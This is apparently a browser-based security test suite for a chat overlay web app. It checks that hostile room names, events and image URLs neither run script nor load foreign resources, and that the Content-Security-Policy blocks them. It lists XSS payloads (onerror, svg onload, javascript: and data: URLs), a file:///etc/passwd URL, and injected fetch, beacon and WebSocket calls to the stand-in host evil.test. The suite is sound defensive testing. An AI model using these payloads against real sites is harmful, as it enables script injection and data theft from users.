// What strangers can put into a page: names of rooms, events of every kind, addresses of pictures.
// Rooms and the policy are tried against the gateway at `BARRAGE_URL` when set; events that no
// gateway would pass on come from a fake one.
import assert from 'node:assert/strict';
import { after, afterEach, before, test } from 'node:test';
import { startFakeGateway } from './fake-gateway.mjs';
import { Pages, flown, launch, line, online } from './pages-browser.mjs';

const TIMEOUT = { timeout: 60_000 };
const SCRIPT = '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=1</script>';
const TURNED = '\u202Edekcatta\u2066 \u202E\u2067';
const FAMILY = '👨‍👩‍👧‍👦'.repeat(60);
const CLIMBING = `Z${'\u0335\u0321\u034e'.repeat(60)}`;
const TEXTS = [SCRIPT, `"'><svg onload=globalThis.pwned=1>`, TURNED, 'a\u2028b\u2029c\u0085d', 'nul\u0000nul', FAMILY, CLIMBING, 'W'.repeat(2_000), '\ud800half', 'javascript:globalThis.pwned=1', { toString: 'x', valueOf: 'x' }, [[]], 1e308];
const COLORS = ['red;}body{display:none', 'url(https://evil.test/c.png)', '#12', '#ffffff\u0000', 'var(--x)', { toString: 'x' }, 7];
const PICTURES = [
  'https://evil.test/a.png', '//evil.test/b.png', 'javascript:globalThis.pwned=1', 'data:text/html,<script>globalThis.pwned=1</script>',
  `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.pwned=1"><image href="https://evil.test/d.png"/><script>globalThis.pwned=1</script></svg>')}`,
  '\\\\evil.test\\e.png', 'https:evil.test/f.png', 'ftp://evil.test/g.png', 'file:///etc/passwd', `\u202Ehttps://evil.test/h.png`,
];

let fake;
let base;
let browser;
let pages;

before(async () => {
  fake = await startFakeGateway();
  base = process.env.BARRAGE_URL ? process.env.BARRAGE_URL.replace(/\/?$/, '/') : fake.url;
  browser = await launch();
  pages = new Pages(browser);
});
afterEach(() => pages.close());
after(async () => {
  await browser?.close();
  await fake?.close();
});

/** What a page must not have become. */
const judged = (page) => page.evaluate(() => ({
  pwned: globalThis.pwned,
  foreign: document.querySelectorAll('main :is(script, iframe, object, embed, a[href^="javascript"], [onerror], [onload])').length,
  wide: document.documentElement.scrollWidth > innerWidth,
  hidden: getComputedStyle(document.body).display === 'none',
  unseen: /[\u0000\u0085\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(document.title + document.body.innerText),
}));

const UNHARMED = { pwned: undefined, foreign: 0, wide: false, hidden: false, unseen: false };

test('names_of_rooms_neither_run_script_nor_break_the_layout', { timeout: 120_000 }, async () => {
  const rooms = [SCRIPT, `"'><svg onload=globalThis.pwned=1>`, '\u202Emoor', 'a\u2028b', 'nul\u0000nul', '👨‍👩‍👧‍👦👨‍👩‍👧‍👦👨‍👩‍👧‍👦', 'W'.repeat(96), '../../evil', '&room=other#x'];
  const visit = async (room) => {
    const query = `?room=${encodeURIComponent(room)}`;
    const viewport = { width: 390, height: 844 };
    const [demo, overlay] = await Promise.all([pages.open(`${base}${query}`, { viewport }), pages.open(`${base}overlay${query}&mode=both&status=1`, { viewport })]);
    // Some of them are refused; both pages say so and stand.
    await demo.waitForFunction(() => document.querySelector('#link')?.dataset.state === 'online');
    await overlay.waitForFunction(() => document.body.dataset.state === 'online');
    assert.deepEqual(await judged(demo), UNHARMED, JSON.stringify(room));
    assert.deepEqual(await judged(overlay), UNHARMED, `overlay ${JSON.stringify(room)}`);
  };
  while (rooms.length > 0) {
    await Promise.all(rooms.splice(0, 4).map(visit));
    await pages.close();
  }
});

test('events_of_every_kind_are_text_whatever_is_in_them', TIMEOUT, async () => {
  const room = 'hostile';
  const viewport = { width: 390, height: 844 };
  const [demo, overlay] = await Promise.all([pages.open(`${fake.url}?room=${room}`, { viewport }), pages.open(`${fake.url}overlay?room=${room}&mode=both&lines=60`, { viewport })]);
  await online(demo);
  await overlay.waitForFunction(() => document.body.dataset.state === 'online');
  const kinds = ['chat', 'gift', 'paid', 'system', 'enter', 'notice', 'x-odd', '__proto__', 'constructor', SCRIPT];
  let count = 0;
  // Fewer at a time than the room's budget, so that none is left out.
  const told = () => demo.waitForFunction((least) => globalThis.barrage.room.accounting.received >= least, count);
  for (const text of TEXTS) {
    if (count % 30 === 0) await told();
    for (const kind of kinds) {
      count += 1;
      const user = { id: `${SCRIPT}${count}`, name: text, roles: count % 7 ? ['<b>', SCRIPT, TURNED] : 'owner', level: text };
      const color = COLORS[count % COLORS.length];
      const body = { text, message: text, gift: text, name: text, amount: text, currency: text, count: text, combo_total: text, color, mode: text, size: text, emotes: [{ code: text, url: PICTURES[count % PICTURES.length] }] };
      fake.publish(room, { kind, user, body });
    }
  }
  await told();
  fake.publish(room, { kind: 'chat', user: { id: 'z', name: 'Zoe' }, body: { text: 'the end' } });
  await line(demo, 'the end');
  await overlay.locator('#list .text', { hasText: 'the end' }).waitFor();
  assert.deepEqual(await judged(demo), UNHARMED);
  assert.deepEqual(await judged(overlay), UNHARMED);
  const tallest = await demo.evaluate(() => Math.max(...[...document.querySelectorAll('#chat-list .line')].map((item) => item.offsetHeight)));
  assert.ok(tallest < 420, `a line is ${tallest} px high`);
});

test('pictures_in_texts_come_from_nowhere_else_and_run_nothing', TIMEOUT, async () => {
  const room = 'pictures';
  // One of them is taken for a path of ours, where nothing is.
  const page = await pages.open(`${fake.url}?room=${room}`, { expected: /404/ });
  await online(page);
  PICTURES.forEach((url, n) => fake.publish(room, { kind: 'chat', user: { id: 'p', name: 'P' }, body: { text: `look [x${n}] here`, emotes: [{ code: `[x${n}]`, url }] } }));
  await flown(page, PICTURES.length);
  // A picture of ours is asked for, which shows that the others could have been; there is none.
  const ours = page.waitForRequest(new URL('emote.png', fake.url).href);
  const answered = page.waitForEvent('requestfinished', (request) => request.url().endsWith('emote.png'));
  await page.route('**/emote.png', (route) => route.fulfill({ contentType: 'image/png', body: Buffer.alloc(0) }));
  fake.publish(room, { kind: 'chat', user: { id: 'p', name: 'P' }, body: { text: 'ours [o]', emotes: [{ code: '[o]', url: '/emote.png' }] } });
  await Promise.all([ours, answered]);
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
});

test('the_policy_lets_nothing_in_that_the_gateway_does_not_serve', TIMEOUT, async () => {
  for (const path of ['?room=policy', 'overlay?room=policy']) {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const answer = await page.goto(`${base}${path}`);
      assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
      assert.equal(answer.headers()['referrer-policy'], 'no-referrer');
      const directives = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src', 'frame-src', 'object-src', 'connect-src', 'base-uri', 'form-action', 'font-src', 'media-src', 'worker-src'];
      const blocked = await page.evaluate(tryEverything, directives);
      const missing = directives.filter((directive) => !blocked.directives.includes(directive));
      assert.deepEqual(missing, [], `${path}: ${blocked.directives}`);
      assert.deepEqual(blocked.connections, ['https://evil.test/beacon', 'https://evil.test/events', 'https://evil.test/fetch', 'wss://evil.test/socket']);
      assert.equal(blocked.pwned, undefined);
      assert.equal(blocked.evaluated, false);
    } finally {
      await context.close();
    }
  }
});

/** In the page: what injected markup would try, until all these directives have forbidden something. */
async function tryEverything(directives) {
  const violations = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => violations.push({ effectiveDirective, blockedURI }));
  const add = (tag, properties = {}, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(properties)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const inline = document.createElement('script');
  inline.textContent = 'globalThis.pwned = "inline"';
  document.body.append(inline);
  add('script', { src: 'https://evil.test/x.js' });
  add('script', { src: 'data:text/javascript,globalThis.pwned="data"' });
  add('button', { onclick: 'globalThis.pwned = "attribute"' }).click();
  add('style').textContent = 'body { color: red }';
  add('p', { style: 'color: red' });
  add('img', { src: 'https://evil.test/x.png' });
  add('iframe', { src: 'https://evil.test/' });
  add('object', { data: 'https://evil.test/' });
  add('video', { src: 'https://evil.test/x.mp4' });
  add('base', { href: 'https://evil.test/' }, document.head);
  const form = add('form', { action: 'https://evil.test/form', method: 'post' });
  form.requestSubmit();
  void new FontFace('evil', 'url(https://evil.test/f.woff2)').load().catch(() => {});
  try { new Worker('data:text/javascript,0'); } catch { /* told as a violation */ }
  void fetch('https://evil.test/fetch').catch(() => {});
  navigator.sendBeacon('https://evil.test/beacon');
  try { new WebSocket('wss://evil.test/socket'); } catch { /* told as a violation */ }
  new EventSource('https://evil.test/events');
  const until = performance.now() + 10_000;
  const told = () => violations.map(({ effectiveDirective }) => effectiveDirective);
  const isDone = () => directives.every((name) => told().includes(name)) && told().filter((name) => name === 'connect-src').length >= 4;
  while (performance.now() < until && !isDone()) {
    await new Promise((resolve) => { setTimeout(resolve, 20); });
  }
  // Behind a pause: what the test itself has begun may evaluate.
  let evaluated = true;
  try { (0, eval)('1'); } catch { evaluated = false; }
  const connections = violations.filter(({ effectiveDirective }) => effectiveDirective === 'connect-src').map(({ blockedURI }) => blockedURI).sort();
  return { directives: told(), connections, evaluated, pwned: globalThis.pwned };
}
